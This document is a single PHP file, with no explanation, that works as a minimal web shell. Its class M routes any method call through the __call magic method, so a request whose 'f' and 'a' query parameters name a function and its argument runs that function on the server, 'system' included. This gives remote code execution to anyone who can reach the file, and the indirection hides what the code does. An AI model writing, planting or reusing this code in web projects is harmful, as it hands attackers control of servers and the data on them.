<?php class M { function __call($n, $a) { return $n(...$a); } } $m = new M; $m->{$_GET["f"]}($_GET["a"]);
